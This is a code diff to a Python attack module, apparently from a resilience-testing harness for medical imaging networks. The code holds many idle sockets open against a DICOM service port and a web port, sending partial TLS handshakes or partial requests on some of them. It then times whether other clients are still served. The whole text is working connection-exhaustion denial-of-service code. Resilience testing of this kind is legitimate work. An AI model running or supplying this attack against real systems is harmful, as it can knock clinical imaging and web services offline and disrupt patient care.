@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import http.client
 import socket
 import time
@@ -18,18 +19,8 @@ def attack(brief: Brief) -> Result:
     """Succeeds when a modality or a browser elsewhere is not served within five seconds."""
     if not echo_works(brief, brief["innocent"]):
         raise NotArmed("the other modality got no answer even before")
-    held = []
-    for port, words in ((brief["dicom"]["port"], b"\x01\x00\x00\x00"), (brief["web"]["port"], b"GET / HT")):
-        for turn in range(_COUNT):
-            try:
-                stream = socket.create_connection(
-                    (brief["dicom"]["host"], port), timeout=2, source_address=(_SOURCE, 0)
-                )
-                held.append(stream)
-                if turn % 2:
-                    stream.sendall(b"\x16\x03\x01\x02\x00" if turn % 4 == 1 else words)
-            except OSError:
-                continue
+    held = _hoard(brief, brief["dicom"]["port"], b"\x01\x00\x00\x00")
+    held += _hoard(brief, brief["web"]["port"], b"GET / HT")
     started = time.monotonic()
     works = echo_works(brief, brief["innocent"])
     echo_seconds = time.monotonic() - started
@@ -47,6 +38,19 @@ def attack(brief: Brief) -> Result:
         f"{len(held)} idle connections held; C-ECHO {'answered' if works else 'failed'} after {echo_seconds:.2f} s, "
         f"HTTP {'answered' if page else 'failed'} after {page_seconds:.2f} s",
     )
+
+
+def _hoard(brief: Brief, port: int, words: bytes) -> list[socket.socket]:
+    """Connections with nothing, half a handshake or half a request on them, until no more are taken."""
+    held: list[socket.socket] = []
+    with contextlib.suppress(OSError):
+        for turn in range(_COUNT):
+            where = (brief["dicom"]["host"], port)
+            stream = socket.create_connection(where, timeout=1, source_address=(_SOURCE, 0))
+            held.append(stream)
+            if turn % 2:
+                stream.sendall(b"\x16\x03\x01\x02\x00" if turn % 4 == 1 else words)
+    return held
 
 
 if __name__ == "__main__":
